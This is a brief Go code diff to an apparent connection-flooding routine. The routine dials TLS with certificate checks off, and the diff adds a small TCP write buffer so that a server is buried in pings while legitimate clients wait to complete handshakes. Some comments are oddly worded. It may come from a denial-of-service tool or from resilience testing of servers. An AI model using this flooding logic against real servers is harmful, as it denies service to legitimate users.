@@ -10,6 +10,7 @@ import (
 	"encoding/binary"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"path/filepath"
 	"strings"
@@ -186,6 +187,12 @@ func (a *flood) attack(address string) *tls.Conn {
 	}
 	conn, err := tls.Dial("tcp", address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}) //nolint:gosec // a stranger
 	if err != nil {
+		return nil
+	}
+	// What the server has not taken stays here: it would have 8 million pings before it when the honest ask,
+	// who have five seconds to shake hands.
+	if err := conn.NetConn().(*net.TCPConn).SetWriteBuffer(4 << 10); err != nil {
+		_ = conn.Close()
 		return nil
 	}
 	_ = conn.SetWriteDeadline(time.Now().Add(20 * time.Second)) // of what is not taken
